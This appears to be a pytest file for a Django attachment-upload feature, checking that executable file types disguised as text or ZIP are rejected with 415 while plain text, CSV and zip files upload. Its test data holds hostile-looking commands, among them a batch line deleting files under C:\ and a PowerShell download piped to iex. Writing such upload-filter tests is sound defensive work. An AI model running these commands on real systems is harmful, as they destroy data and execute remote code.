"""Programs that pass the content check as text or ZIP, under a name that runs them when opened."""

from __future__ import annotations

import io
import zipfile

import pytest

from attachments.models import Attachment

from .conftest import upload

pytestmark = pytest.mark.django_db


def _zip(names: list[str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name in names:
            archive.writestr(name, "x")
    return out.getvalue()


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("invoice.pdf.js", b"WScript.CreateObject('WScript.Shell').Run('calc');\n"),
        ("update.vbs", b'CreateObject("WScript.Shell").Run "calc"\n'),
        ("setup.bat", b"@echo off\r\ndel /q C:\\*\r\n"),
        ("setup.CMD", b"@echo off\r\n"),
        ("profile.ps1", b"Invoke-WebRequest http://example.com/x | iex\n"),
        ("tweak.reg", b"Windows Registry Editor Version 5.00\r\n"),
        ("app.jar", _zip(["META-INF/MANIFEST.MF", "Main.class"])),
        ("app.apk", _zip(["AndroidManifest.xml", "classes.dex"])),
        ("report.docm", _zip(["word/document.xml", "word/vbaProject.bin"])),
        ("sheet.xlsm", _zip(["xl/workbook.xml", "xl/vbaProject.bin"])),
    ],
)
def test_a_program_named_to_run_is_refused_415_even_when_its_content_is_text_or_zip(
    api, make_user, make_room, name, data
):
    alice = make_user()
    room = make_room(owner=alice)

    answer = upload(api(alice), room.pk, name, data)

    assert (answer.status_code, answer.json()["error"]["code"]) == (415, "unsupported_type"), answer.content
    assert not Attachment.objects.exists()


@pytest.mark.parametrize(
    ("name", "data"),
    [("notes.txt", b"plain words\n"), ("data.csv", b"a,b\n1,2\n"), ("archive.zip", _zip(["a.txt"]))],
)
def test_ordinary_text_and_archives_still_upload(api, make_user, make_room, name, data):
    alice = make_user()
    room = make_room(owner=alice)
    assert upload(api(alice), room.pk, name, data).status_code == 201
